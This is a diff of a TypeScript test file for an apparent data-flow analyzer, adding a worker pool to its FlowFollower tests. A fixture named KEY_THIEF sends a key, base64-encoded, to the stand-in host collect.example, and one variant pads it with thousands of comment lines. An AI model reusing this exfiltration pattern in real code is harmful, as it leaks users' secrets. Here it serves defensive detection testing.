@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { readFileSync } from 'node:fs';
-import { test } from 'node:test';
+import { after, test } from 'node:test';
 import { digestOf } from '@avow/bytes';
 import {
   type FlowJob,
@@ -11,6 +11,7 @@ import {
   readRules,
 } from '@avow/examine';
 import { readScript } from '@avow/formats';
+import { Pool } from '../pool.ts';
 import { FlowFollower } from './follower.ts';
 
 const rules = readRules(readFileSync('rules/update.json', 'utf8'));
@@ -24,7 +25,6 @@ const req = https.request('https://collect.example/');
 req.end(Buffer.from(key).toString('base64'));
 `;
 
-/** One module of a size: what is small is followed here, what is large in a child. */
 function jobOf(code: string): FlowJob {
   const bytes = Buffer.from(code);
   const task = { digest: digestOf(bytes), bytes, language: 'js', goal: 'commonjs' } as const;
@@ -36,8 +36,11 @@ function jobOf(code: string): FlowJob {
   };
 }
 
+const pool = new Pool(new URL('../child.ts', import.meta.url), { workers: 1 });
+after(() => pool.close());
+
 const follower = (limits: { productMs?: number } = {}) =>
-  new FlowFollower({ engine: digestOf('engine'), rules: rules.digest, ...limits });
+  new FlowFollower({ pool, engine: digestOf('engine'), rules: rules.digest, ...limits });
 
 const padded = `${KEY_THIEF}${`// ${'x'.repeat(97)}\n`.repeat(4000)}`;
 
@@ -64,7 +67,7 @@ test('what was followed once is given from the store, byte for byte', async () =
       for (const [key, bytes] of readings) kept.set(key, bytes);
     },
   };
-  const options = { engine: digestOf('engine'), rules: rules.digest, store };
+  const options = { pool, engine: digestOf('engine'), rules: rules.digest, store };
   const job = jobOf(KEY_THIEF);
   const fresh = await new FlowFollower(options).follow(job);
   assert.deepEqual(await new FlowFollower(options).follow(job), fresh);
